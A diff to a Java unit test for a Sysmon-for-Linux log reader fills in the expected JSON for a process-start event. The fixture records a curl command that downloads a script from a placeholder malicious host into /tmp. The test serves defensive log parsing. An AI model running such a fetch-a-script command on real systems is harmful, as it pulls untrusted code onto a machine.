@@ -20,7 +20,7 @@ class SysmonForLinuxTest {
     @Test
     void readsAProcessStartOutOfSyslog() {
         assertThat(Facts.of(reader.event(START))).isEqualTo("""
-                TODO""");
+                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"1","dataset":"linux.sysmon"},"host":{"name":"lin-7","hostname":"lin-7","os":{"type":"linux"}},"user":{"name":"ada"},"process":{"entity_id":"fe8b3f2c-b135-69a5-c8b6-d71555560000","pid":2221,"start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o /tmp/a.sh https://files.bad.example/a","working_directory":"/home/ada","integrity_level":"no level","parent":{"entity_id":"fe8b3f2c-b100-69a5-c8b6-d71555560000","pid":2176,"executable":"/bin/bash","command_line":"-bash"}}}""");
     }
 
     @Test
